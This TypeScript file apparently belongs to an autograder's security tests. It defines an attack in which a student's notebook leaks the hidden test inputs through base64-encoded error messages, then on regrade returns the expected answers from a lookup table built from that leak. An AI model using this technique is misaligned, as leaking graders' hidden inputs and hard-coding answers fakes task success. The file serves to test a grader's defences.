import { join } from "node:path";
import { Matrix } from "../../lib/mod.ts";
import { notebookWith, put } from "./class.ts";
import type { Attack } from "./attack.ts";

// Tells, in two errors, the inputs of both calls: 28 numbers of eight bytes each.
const TELL = `
const asked: string[] = [];
function reluStep(x: any, h: any, { Wxh, Whh, bh }: any) {
  const numbers = Float64Array.from([x, h, Wxh, Whh, bh].flatMap((A) => Array.from(A.data)));
  asked.push(btoa(String.fromCharCode(...new Uint8Array(numbers.buffer))));
  if (asked.length === 2) throw new Error("MARK53:" + asked[0] + ":");
  return h;
}`;
const TELL_MORE = `function leakyStep() {
  throw new Error("MARK53:" + asked[1] + ":");
}`;

/** Returns the answers to the inputs in an error, as the code of an entry of a table. */
function entryOf(message = ""): string {
  const [, told] = message.match(/MARK53:([^:]*):/) ?? [];
  const bytes = Uint8Array.from(atob(told ?? ""), (letter) => letter.charCodeAt(0));
  if (bytes.length !== 28 * 8) return "";
  const numbers = [...new Float64Array(bytes.buffer)];
  const take = (rows: number, cols: number) =>
    new Matrix(rows, cols, Float64Array.from(numbers.splice(0, rows * cols)));
  const [x, h, Wxh, Whh, bh] = [take(2, 2), take(3, 2), take(3, 2), take(3, 3), take(3, 1)];
  const answer = Whh.matmul(h).add(Wxh.matmul(x)).addColumn(bh).map((z) => Math.max(0, z));
  return `"${x.data.join()}": [${answer.data.join()}],`;
}

/** Has its inputs printed in its report, and returns the answers to them from a table when it is graded again. */
export const attack: Attack = {
  cells: { ps1_relu: TELL, ps1_leaky: TELL_MORE },
  async between(folder, results) {
    const { items } = results.find(({ student }) => student === "mallory")!;
    const table = items.map(({ message }) => entryOf(message)).join("\n");
    const source = `const table: any = {\n${table}\n};
function reluStep(x: any, h: any) {
  const answer = table[x.data.join()];
  return answer ? new Matrix(3, 2, Float64Array.from(answer)) : h;
}`;
    await put(
      join(folder, "mallory", "ps1.ipynb"),
      await notebookWith({ cells: { ps1_relu: source } }),
    );
  },
};
